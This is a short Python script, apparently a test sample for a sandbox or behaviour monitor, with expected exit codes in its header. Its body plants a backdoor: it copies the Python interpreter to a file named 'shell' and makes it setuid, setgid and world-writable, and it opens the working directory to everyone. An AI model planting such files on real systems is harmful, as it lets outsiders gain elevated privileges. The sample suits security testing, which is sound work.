# Leaves a set-user-id shell for somebody outside to start.
# ends: exited(0) exited(1)
# writes: yes
import os
import shutil
import sys

shutil.copyfile(sys.executable, "shell") if os.path.getsize(sys.executable) < 1 << 20 else open("shell", "w").close()
os.chmod("shell", 0o6777)
os.chmod(".", 0o7777)
